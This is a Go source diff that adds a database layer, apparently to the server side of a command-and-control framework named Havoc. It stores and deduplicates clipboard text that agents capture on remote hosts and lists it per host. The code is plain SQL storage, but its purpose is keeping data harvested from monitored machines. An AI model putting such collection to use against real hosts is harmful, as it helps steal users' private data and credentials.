@@ -0,0 +1,86 @@
+package db
+
+import (
+	"database/sql"
+
+	"Havoc/pkg/seal"
+)
+
+// ClipboardEntry
+// text that was copied on a host. copying the same text again on the
+// same host counts it instead of adding it once more.
+type ClipboardEntry struct {
+	ID        int
+	Workspace string
+	Host      string
+	// agent that captured the text the last time
+	AgentID string
+	// sha256 of the text
+	Hash  string
+	Text  string
+	First string
+	Last  string
+	// unix time of Last, orders the history
+	Seen  int64
+	Count int
+}
+
+// ClipboardAdd
+// adds the text to the history of the host or counts it if the host
+// copied it before. returns the id of the entry and if it was known.
+func (db *DB) ClipboardAdd(Entry ClipboardEntry) (int, bool, error) {
+	var ID int
+
+	err := db.db.QueryRow("SELECT ID FROM TS_Clipboard WHERE Workspace = ? AND Host = ? AND Hash = ?", Entry.Workspace, Entry.Host, Entry.Hash).Scan(&ID)
+	if err == nil {
+		_, err = db.db.Exec("UPDATE TS_Clipboard SET AgentID = ?, Last = ?, Seen = ?, Count = Count + 1 WHERE ID = ?", Entry.AgentID, Entry.Last, Entry.Seen, ID)
+
+		return ID, true, err
+	} else if err != sql.ErrNoRows {
+		return 0, false, err
+	}
+
+	stmt, err := db.db.Prepare("INSERT INTO TS_Clipboard (Workspace, Host, AgentID, Hash, Text, First, Last, Seen, Count) values(?,?,?,?,?,?,?,?,1)")
+	if err != nil {
+		return 0, false, err
+	}
+	defer stmt.Close()
+
+	Result, err := stmt.Exec(Entry.Workspace, Entry.Host, Entry.AgentID, Entry.Hash, seal.SealString(Entry.Text), Entry.First, Entry.Last, Entry.Seen)
+	if err != nil {
+		return 0, false, err
+	}
+
+	Inserted, err := Result.LastInsertId()
+
+	return int(Inserted), false, err
+}
+
+// Clipboard
+// returns the clipboard history of the host (of every host if empty),
+// the most recently copied text first.
+func (db *DB) Clipboard(Host string) []ClipboardEntry {
+	var Entries []ClipboardEntry
+
+	query, err := db.db.Query("SELECT ID, Workspace, Host, AgentID, Hash, Text, First, Last, Seen, Count FROM TS_Clipboard WHERE ? = '' OR Host = ? COLLATE NOCASE ORDER BY Seen DESC, ID DESC", Host, Host)
+	if err != nil {
+		return nil
+	}
+	defer query.Close()
+
+	for query.Next() {
+		var Entry ClipboardEntry
+
+		if err = query.Scan(&Entry.ID, &Entry.Workspace, &Entry.Host, &Entry.AgentID, &Entry.Hash, &Entry.Text, &Entry.First, &Entry.Last, &Entry.Seen, &Entry.Count); err != nil {
+			continue
+		}
+
+		if err = unseal(&Entry.Text); err != nil {
+			continue
+		}
+
+		Entries = append(Entries, Entry)
+	}
+
+	return Entries
+}